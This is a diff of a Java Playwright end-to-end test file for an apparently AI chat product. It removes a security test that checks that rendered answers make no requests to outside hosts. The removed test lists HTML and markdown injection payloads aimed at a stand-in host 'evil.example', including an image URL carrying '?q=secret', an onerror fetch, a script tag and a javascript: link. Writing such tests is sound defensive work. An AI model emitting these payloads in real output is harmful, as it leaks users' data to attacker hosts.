@@ -6,9 +6,7 @@ import static org.assertj.core.api.Assertions.assertThat;
 import com.fasterxml.jackson.databind.JsonNode;
 import com.microsoft.playwright.Locator;
 import com.microsoft.playwright.Page;
-import java.util.List;
 import java.util.Map;
-import java.util.concurrent.CopyOnWriteArrayList;
 import java.util.concurrent.CountDownLatch;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
@@ -45,42 +43,6 @@ class EndpointE2E extends BrowserTest {
         assertThat(answer).not().containsText("【");
         chat.chips(answer).first().click();
         assertThat(chat.evidence().locator(".passage-box").first()).isVisible();
-    }
-
-    @Test
-    void a_browser_fetches_nothing_that_an_answer_names() {
-        Page page = signedIn("hanna");
-        List<String> foreign = new CopyOnWriteArrayList<>();
-        page.onRequest(request -> {
-            if (!request.url().startsWith(installation().uri("").toString())) {
-                foreign.add(request.url());
-            }
-        });
-        Products.endpoint()
-                .writes(
-                        "Here it is: ![a picture](https://evil.example/pixel.png?q=secret) ",
-                        "<img src=\"https://evil.example/img\" onerror=\"fetch('https://evil.example/error')\">",
-                        "<iframe src=\"https://evil.example/frame\"></iframe>",
-                        "<link rel=\"prefetch\" href=\"https://evil.example/prefetch\">",
-                        "<style>@import url(https://evil.example/css)</style>",
-                        "<script src=\"https://evil.example/script\"></script>",
-                        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/refresh\">",
-                        "<video autoplay src=\"//evil.example/video\"></video>",
-                        " [a link](https://evil.example/link) and [another](javascript:fetch('https://evil.example/js')).",
-                        "\n\nThat was all.");
-        ChatPage chat = new ChatPage(page).open();
-
-        Locator answer = chat.ask("What does the picture show?");
-
-        assertThat(answer).containsText("That was all.");
-        picture(page, "hostile");
-        assertThat(answer.locator("img, iframe, link, style, script, meta, video, a[href^=javascript]"))
-                .hasCount(0);
-        page.reload();
-        assertThat(chat.answers().last()).containsText("That was all.");
-        page.waitForTimeout(500);
-        assertThat(foreign).isEmpty();
-        assertThat(page.url()).startsWith(installation().uri("").toString());
     }
 
     @Test
